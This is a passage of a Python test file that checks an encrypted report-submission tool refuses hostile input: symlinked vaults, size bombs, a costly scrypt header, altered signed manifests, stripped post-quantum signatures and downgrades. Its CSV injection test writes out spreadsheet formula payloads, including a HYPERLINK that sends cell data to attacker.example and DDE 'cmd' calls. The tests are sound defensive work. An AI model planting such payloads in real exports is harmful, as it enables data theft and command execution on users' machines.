    env = cli_env(tmp_path)
    vault = Path(env["SECURESUBMIT_VAULT"])
    assert run_cli(*WEAK_INIT, "--name", "Linked", env=env).returncode == 0
    digest = file_vault_digest(vault)
    link = tmp_path / "link.db"
    link.symlink_to(vault)
    linked = run_cli(
        "report",
        "new",
        "--title",
        "x",
        "--category",
        "media",
        env={**env, "SECURESUBMIT_VAULT": str(link)},
    )
    assert linked.returncode not in (0, 70) and "Traceback" not in linked.stderr
    assert file_vault_digest(vault) == digest
    dangling = tmp_path / "dangling.db"
    dangling.symlink_to(tmp_path / "elsewhere.db")
    created = run_cli(*WEAK_INIT, "--name", "X", env={**env, "SECURESUBMIT_VAULT": str(dangling)})
    assert created.returncode not in (0, 70) and not (tmp_path / "elsewhere.db").exists()
    victim = _write(tmp_path / "victim", b"")
    Path(f"{vault}-wal").unlink(missing_ok=True)  # SQLite leaves an empty one after close
    Path(f"{vault}-wal").symlink_to(victim)
    planted = run_cli("report", "new", "--title", "x", "--category", "media", env=env)
    assert planted.returncode not in (0, 70) and "Traceback" not in planted.stderr
    assert victim.read_bytes() == b""


# --- size bombs and hostile age headers -------------------------------------------------------


def test_size_bomb_a_sparse_64_gib_bundle_is_refused_before_reading(
    pair: tuple[Session, Session], tmp_path: Path
) -> None:
    _, coord = pair
    path = tmp_path / "bomb.ssb"
    with open(path, "wb") as handle:
        handle.truncate(exchange.MAX_BUNDLE_BYTES + 1)  # sparse: costs no disk
    started = time.monotonic()
    with _Unchanged(coord), pytest.raises(Refused, match="larger than"):
        coord.import_bundle(path)
    assert time.monotonic() - started < 2


def test_scrypt_stanza_with_a_huge_work_factor_in_a_sealed_report_is_refused_first(
    pair: tuple[Session, Session], tmp_path: Path
) -> None:
    """scrypt at 2^40 would need terabytes; the header check refuses any scrypt stanza
    before a single key is tried (pyrage itself would run it: see security-notes)."""
    _, coord = pair
    vector = (REPO / "tests/vectors/age/testdata/scrypt_work_factor_23").read_bytes()
    age_file = vector.split(b"\n\n", 1)[1].replace(b" 23\n", b" 40\n", 1)
    assert b"-> scrypt " in age_file and b" 40\n" in age_file
    path = _write(tmp_path / "scrypt.age", age_file)
    started = time.monotonic()
    with _Unchanged(coord), pytest.raises(FormatError, match="scrypt"):
        coord.open_sealed_file(path, tmp_path / "saved")
    assert time.monotonic() - started < 2
    assert not (tmp_path / "saved").exists() or not list((tmp_path / "saved").iterdir())


# --- non-canonical encodings and duplicated fields -------------------------------------------


@pytest.mark.parametrize(
    "rewrite",
    [
        pytest.param(lambda m: m.replace(b'"sequence":', b'"sequence": ', 1), id="space"),
        pytest.param(
            lambda m: m.replace(b'"sequence":1', b'"sequence":1,"sequence":1', 1),
            id="duplicated-field",
        ),
        pytest.param(
            lambda m: m.replace(b'"format":"', b'"format":"\\u0073', 1).replace(
                b"\\u0073securesubmit", b"\\u0073ecuresubmit", 1
            ),
            id="escaped-letter",
        ),
        pytest.param(lambda m: m.replace(b'"sequence":1', b'"sequence":1.0', 1), id="fraction"),
        pytest.param(lambda m: m[:-1] + b',"sequence":1}', id="duplicated-at-end"),
    ],
)
def test_non_canonical_and_duplicated_json_in_a_validly_signed_manifest_is_refused(
    pair: tuple[Session, Session], tmp_path: Path, rewrite: object
) -> None:
    """The sender's own key signs a manifest written another way (or with a field twice):
    the signature is valid, so only the canonical-form rule stands between two readers
    that might parse it differently."""
    reporter, coord = pair
    genuine = age_decrypt(
        _export_empty_bundle(reporter, coord, tmp_path), coord.identity.encryption_secret
    )
    length = struct.unpack(">I", genuine[24:28])[0]
    manifest = genuine[28 : 28 + length]
    altered = rewrite(manifest)  # type: ignore[operator]
    assert altered != manifest
    container = _container(altered, _sign_manifest(reporter.identity.signing_seed, altered))
    path = _write(tmp_path / "odd.ssb", age_encrypt(container, coord.identity.encryption_public))
    with _Unchanged(coord), pytest.raises(FormatError):
        coord.import_bundle(path)


def _export_empty_bundle(reporter: Session, coord: Session, tmp_path: Path) -> bytes:
    out = io.BytesIO()
    me = reporter.identity
    bundle.write_bundle(
        out,
        sender_seed=me.signing_seed,
        sender_keys=me.keys,
        recipient=coord.identity.keys,
        sequence=1,
        previous_hash=bundle.ZERO_HASH,
        members=[],
        statements=(),
        audit=None,
        created=reporter.clock(),
    )
    return out.getvalue()


# --- CSV formula injection --------------------------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("https://attacker.example/?"&A1,"open the evidence")',
    "description": "+1+cmd|' /C calc'!A0",
    "place": "-2+3+cmd|' /C calc'!A0",
    "person": "@SUM(1+1)*cmd|' /C calc'!A0",
    "role": "\t=1+1",
    "source": "\r=1+1",
    "tag": "=tag",
    "attachment": "=1+1.txt",
    "sender": "=cmd|' /C calc'!A0",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_csv_formula_injection_in_a_received_report_is_neutralised(
    tmp_path: Path, clock: FixedClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Everything a reporter writes (and the name on their card) travels to the
    coordinator's CSV and Uwazi exports, which are opened in spreadsheets. No cell may
    start like a formula. The sender's own input checks are switched off: a hostile
    sender does not run them."""
    import csv
    import zipfile

    from securesubmit.core import inbox, service

    monkeypatch.setattr(service, "validate", lambda report: None)
    monkeypatch.setattr(service, "check_attachment_name", lambda name: None)
    reporter = _vault(tmp_path / "r.db", FORMULAS["sender"], clock)
    coord = _vault(tmp_path / "c.db", COORDINATOR_NAME, clock, "coordinator")
    _partner(reporter, coord)
    report = reporter.create_report(
        title=FORMULAS["title"],
        category="repression",
        description=FORMULAS["description"],
        place=FORMULAS["place"],
        people=[{"name": FORMULAS["person"], "role": FORMULAS["role"]}],
        sources=[FORMULAS["source"]],
        tags=[FORMULAS["tag"]],
    )
    attachment = _write(tmp_path / "evidence.txt", b"evidence")
    reporter.attach_file(report.id, attachment, name=FORMULAS["attachment"], scrub=False)
    reporter.seal_report(report.id, [COORDINATOR_NAME])
    monkeypatch.undo()
    coord.import_bundle(_export(reporter, tmp_path / "b1.ssb").path)
    items = coord.list_inbox()
    out = tmp_path / "exports"
    inbox.export(items, "csv", out)
    inbox.export(items, "uwazi", out)
    with zipfile.ZipFile(out / "uwazi-import.zip") as archive:
        uwazi = archive.read(inbox.UWAZI_CSV_NAME).decode("utf-8-sig")
    tables = {
        "reports.csv": (out / "reports.csv").read_text(encoding="utf-8-sig"),
        "uwazi import.csv": uwazi,
    }
    for name, text in tables.items():
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        dangerous = [c for c in cells if c.startswith(FORMULA_START)]
        assert dangerous == [], name
        assert "'" + FORMULAS["title"] in cells, name  # present, and neutralised
    reporter.close()
    coord.close()


# --- post-quantum (issue 12): stripped and altered ML-DSA signatures, downgrades --------------


@pytest.fixture
def hybrid_pair(tmp_path: Path, clock: FixedClock) -> Iterator[tuple[Session, Session]]:
    reporter = _vault(tmp_path / "hreporter.db", "Aigerim", clock, hybrid=True)
    coord = _vault(tmp_path / "hcoord.db", COORDINATOR_NAME, clock, "coordinator", hybrid=True)
    _partner(reporter, coord)
    yield reporter, coord
    reporter.close()
    coord.close()


def _hybrid_container(coord: Session, bundle_file: Path) -> bytes:
    out = io.BytesIO()
    identities = coord.identity.age_identities
    agev1.decrypt_untrusted(io.BytesIO(bundle_file.read_bytes()), out, identities)
    return out.getvalue()


def _to(coord: Session, container: bytes, *, hybrid: bool = True) -> bytes:
    """Encrypt like anyone can (age does not authenticate the sender) to the coordinator."""
    pq = coord.identity.hybrid_public
    assert pq is not None
    classical = agev1.X25519Recipient(coord.identity.encryption_public)
    recipient: agev1.Recipient = agev1.HybridRecipient(pq) if hybrid else classical
    out = io.BytesIO()
    agev1.encrypt_stream(io.BytesIO(container), out, [recipient])
    return out.getvalue()


def _mldsa_span(container: bytes) -> tuple[int, int]:
    """Where the manifest record's ML-DSA-65 signature lies in a version 2 container."""
    assert container.startswith(bundle.MAGIC_V2)
    length = struct.unpack(">I", container[24:28])[0]
    start = 28 + length + crypto.SIGNATURE_SIZE
    return start, start + crypto.MLDSA_SIGNATURE_SIZE


def test_mldsa_signature_stripped_from_a_hybrid_bundle_is_refused(
    hybrid_pair: tuple[Session, Session], tmp_path: Path
) -> None:
    """Someone who can forge Ed25519 (a future quantum computer) but not ML-DSA-65 removes
    the ML-DSA signature from a genuine bundle; with or without its bytes, it is refused."""
    reporter, coord = hybrid_pair
    _seal(reporter, "genuine")
    container = _hybrid_container(coord, _export(reporter, tmp_path / "b1.ssb").path)
    start, end = _mldsa_span(container)
    cut = container[:start] + container[end:]  # the bytes removed
    zeroed = container[:start] + bytes(end - start) + container[end:]  # or emptied
    for name, data in (("cut", cut), ("zeroed", zeroed)):
        path = _write(tmp_path / f"{name}.ssb", _to(coord, data))
        with _Unchanged(coord), pytest.raises(SecureSubmitError):
            coord.import_bundle(path)
    with _Unchanged(coord), pytest.raises(VerificationError, match="ML-DSA-65"):
        coord.import_bundle(tmp_path / "zeroed.ssb")
    assert coord.list_inbox() == []


def test_mldsa_signature_altered_in_a_hybrid_bundle_is_refused(
    hybrid_pair: tuple[Session, Session], tmp_path: Path
) -> None:
    reporter, coord = hybrid_pair
    _seal(reporter, "genuine")
    container = bytearray(_hybrid_container(coord, _export(reporter, tmp_path / "b1.ssb").path))
    start, end = _mldsa_span(bytes(container))
    container[(start + end) // 2] ^= 0x01
    path = _write(tmp_path / "altered.ssb", _to(coord, bytes(container)))
    with _Unchanged(coord), pytest.raises(VerificationError, match="ML-DSA-65 signature"):
        coord.import_bundle(path)
    assert coord.list_inbox() == []


def test_downgrade_hybrid_partner_classical_bundle_is_refused(
    hybrid_pair: tuple[Session, Session], tmp_path: Path, clock: FixedClock
) -> None:
    """An attacker who can forge Ed25519 (simulated: holds the reporter's Ed25519 seed)
    writes a version 1 bundle naming only the reporter's classical keys, so that no
    ML-DSA-65 signature is needed. The coordinator knows the reporter as hybrid."""
    reporter, coord = hybrid_pair
    me = reporter.identity
    for sequence, encrypted_hybrid in ((1, True), (2, False)):
        out = io.BytesIO()
        bundle.write_bundle(
            out,
            sender_seed=me.signing_seed,
            sender_keys=me.keys.classical,
            recipient=coord.identity.keys if encrypted_hybrid else coord.identity.keys.classical,
            sequence=sequence,
            previous_hash=bundle.ZERO_HASH if sequence == 1 else b"\x01" * 32,
            members=[],
            statements=(),
            audit=None,
            created=clock(),
        )
        path = _write(tmp_path / f"downgraded-{sequence}.ssb", out.getvalue())
        with _Unchanged(coord), pytest.raises(Refused, match="downgrade is refused"):
            coord.import_bundle(path)


def test_downgrade_hybrid_bundle_re_encrypted_classical_is_refused(
    hybrid_pair: tuple[Session, Session], tmp_path: Path
) -> None:
    """A genuine version 2 bundle whose age layer was replaced by an X25519 one (someone
    who holds the file key, or a reader): its signed manifest says hybrid."""
    reporter, coord = hybrid_pair
    _seal(reporter, "genuine")
    container = _hybrid_container(coord, _export(reporter, tmp_path / "b1.ssb").path)
    path = _write(tmp_path / "classical.ssb", _to(coord, container, hybrid=False))
    with _Unchanged(coord), pytest.raises(bundle.EncryptionDowngraded, match="says hybrid"):
        coord.import_bundle(path)


def test_require_hybrid_coordinator_refuses_a_classical_outer_layer(
    tmp_path: Path, clock: FixedClock
) -> None:
    """A classical reporter's bundle (version 1: its protection is not signed) to a
    coordinator whose card requires hybrid is written hybrid; someone who re-encrypts it
    to the coordinator's X25519 key is refused, not silently accepted as weaker than the
    coordinator asked for."""
    reporter = _vault(tmp_path / "r.db", "Aigerim", clock)
    coord = _vault(tmp_path / "c.db", COORDINATOR_NAME, clock, "coordinator", hybrid=True)
    with reporter, coord:
        card = coord.own_card(require_hybrid=True)
        assert card.require_hybrid and coord.identity.require_hybrid
        reporter.add_partner(card, verified=VERIFIED_CONFIRMED)
        coord.add_partner(reporter.own_card(), verified=VERIFIED_CONFIRMED)
        _seal(reporter, "sealed to a coordinator that requires hybrid")
        genuine = _export(reporter, tmp_path / "b1.ssb")
        assert (genuine.encryption, genuine.signature) == ("hybrid", "classical")
        container = _hybrid_container(coord, genuine.path)
        assert container.startswith(bundle.MAGIC)
        path = _write(tmp_path / "classical.ssb", _to(coord, container, hybrid=False))
        with _Unchanged(coord), pytest.raises(bundle.EncryptionDowngraded, match="requires hybrid"):
            coord.import_bundle(path)
        assert coord.list_inbox() == []
        result = coord.import_bundle(genuine.path)
        assert (result.encryption, result.signature) == ("hybrid", "classical")


# --- post-quantum audit checkpoints (issue 12, last part) ------------------------------------


def test_a_hybrid_senders_checkpoint_is_checked_with_both_keys_and_pinned(
    hybrid_pair: tuple[Session, Session], tmp_path: Path, clock: FixedClock
) -> None:
    """The reporter's log is hybrid: the coordinator receives its ML-DSA-65 verifier key in
    the signed manifest, checks both signatures, and keeps the key. A later bundle whose
    audit slot leaves the key out (the checkpoint then reads as Ed25519-only) is refused as
    a downgrade, even when the manifest itself is validly hybrid-signed."""
    reporter, coord = hybrid_pair
    assert reporter.vault.log_mldsa_public_key() is not None
    _seal(reporter, "genuine")
    first = _export(reporter, tmp_path / "b1.ssb")
    assert first.path.exists()
    coord.import_bundle(first.path)
    state = coord.vault.get(exchange._sender_state_id(coord, coord.list_partners()[0]))
    assert state is not None and state["mldsa_verifier_key"].startswith("securesubmit/vault/")
    slot, _ = exchange._audit_slot(
        reporter.vault, int(state["checkpoint_size"]), hybrid_manifest=False
    )
    assert slot.mldsa_verifier_key is None and slot.checkpoint is not None
    me = reporter.identity
    out = io.BytesIO()
    bundle.write_bundle(
        out,
        sender_seed=me.signing_seed,
        sender_keys=me.keys,
        recipient=coord.identity.keys,
        sequence=2,
        previous_hash=first.bundle_hash,
        members=[],
        statements=(),
        audit=slot,
        created=clock(),
        sender_mldsa_seed=me.mldsa_seed,
    )
    path = _write(tmp_path / "b2-no-mldsa-log-key.ssb", out.getvalue())
    with _Unchanged(coord), pytest.raises(Refused, match="ML-DSA-65 log key"):
        coord.import_bundle(path)


def test_a_hybrid_checkpoint_stripped_of_its_mldsa_line_cannot_be_sent(
    hybrid_pair: tuple[Session, Session], tmp_path: Path
) -> None:
    """The reporter's stored checkpoint lost its ML-DSA-65 line (file tampering): the export
    refuses to send it rather than send a checkpoint the coordinator would refuse."""
    reporter, _coord = hybrid_pair
    _seal(reporter, "genuine")
    conn = reporter.vault._conn
    size, signed = conn.execute("SELECT size, note FROM checkpoints").fetchone()
    lines = signed.decode().split("\n")
    stripped = ("\n".join(lines[:-2]) + "\n").encode()
    conn.execute("UPDATE checkpoints SET note = ? WHERE size = ?", (stripped, size))
    with pytest.raises(VerificationError, match="ML-DSA-65"):
        _export(reporter, tmp_path / "b1.ssb")
